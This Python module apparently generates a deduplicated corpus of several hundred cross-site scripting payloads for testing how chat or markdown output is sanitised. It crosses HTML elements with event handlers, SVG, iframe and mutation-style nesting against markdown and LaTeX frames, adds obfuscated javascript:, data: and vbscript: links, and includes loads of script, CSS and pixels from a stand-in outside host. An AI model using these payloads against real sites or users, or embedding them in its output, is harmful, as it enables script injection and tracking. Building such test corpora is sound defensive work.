"""Hostile texts: what has ever run as script out of a chat, in as many spellings as fit a minute.

`hit()` is what they all want to call, and `elsewhere.example` where they want to be heard.
"""

from __future__ import annotations

CALLS = ("hit()", "hit`1`", "window['hit']()", "top.hit()", "setTimeout(hit)")

ELEMENTS = (
    "<script>{call}</script>",
    "<script src=https://elsewhere.example/x.js></script>",
    "<img src=x onerror={call}>",
    "<img src=https://elsewhere.example/pixel.png>",
    "<svg onload={call}></svg>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:{call}'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:parent.{call}></iframe>",
    "<iframe src=https://elsewhere.example/></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src=https://elsewhere.example/x.svg>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<details open ontoggle={call}>x</details>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}></select>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<body onload={call}>",
    "<marquee onstart={call}>x</marquee>",
    "<style>@import 'https://elsewhere.example/x.css';</style>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=https://elsewhere.example/>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<template><img src=x onerror={call}></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'></noscript>",
    "<div style='background:url(https://elsewhere.example/x)' onmouseover={call}>x</div>",
)

FRAMES = (
    "{0}",
    "before {0} after",
    "- {0}\n- x",
    "> {0}",
    "| {0} |\n|---|\n| {0} |",
    "**{0}**",
    "[{0}](https://example.org)",
    "![{0}](x)",
    "</p></div>{0}",
    "\"'`>{0}",
    "```html\n{0}\n```",
    "```{0}\nx\n```",
    "${0}$",
    "<!-- {0} -->{0}",
)

ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    " javascript:hit()",
    "java\tscript:hit()",
    "&#106;avascript:hit()",
    "&#x6A;avascript&colon;hit()",
    "javascript&#58;hit()",
    "java&NewLine;script:hit()",
    "\x01javascript:hit()",
    "vbscript:hit()",
    "data:text/html,<script>opener.hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "blob:https://elsewhere.example/1",
    "filesystem:https://elsewhere.example/1",
    "//elsewhere.example/x",
    "\\\\elsewhere.example\\x",
    "https:javascript:hit()",
    "javascript://example.org/%0ahit()",
)

LINKS = (
    "[x]({0})",
    "[x](<{0}>)",
    '[x]({0} "hit()")',
    "![x]({0})",
    "<{0}>",
    "[x][r]\n\n[r]: {0}",
    "![x][r]\n\n[r]: <{0}>",
    "[![x]({0})]({0})",
    "$\\href{{{0}}}{{x}}$",
    "$\\url{{{0}}}$ $\\includegraphics{{{0}}}$",
    "$$\\htmlData{{onclick=hit()}}{{\\class{{x}}{{{0}}}}}$$",
    "<a href='{0}'>x</a>",
)


def payloads() -> list[str]:
    """Every text once, at least 500 of them, in an order that mixes the kinds."""
    made = [
        frame.replace("{0}", element.replace("{call}", CALLS[(n + m) % len(CALLS)]))
        for n, element in enumerate(ELEMENTS)
        for m, frame in enumerate(FRAMES)
    ]
    made += [link.format(address) for address in ADDRESSES for link in LINKS]
    return sorted(set(made), key=lambda text: hash_of(text))


def hash_of(text: str) -> int:
    """A number that mixes, and is the same in every run."""
    value = 5381
    for letter in text:
        value = (value * 33 + ord(letter)) & 0xFFFFFFFF
    return value
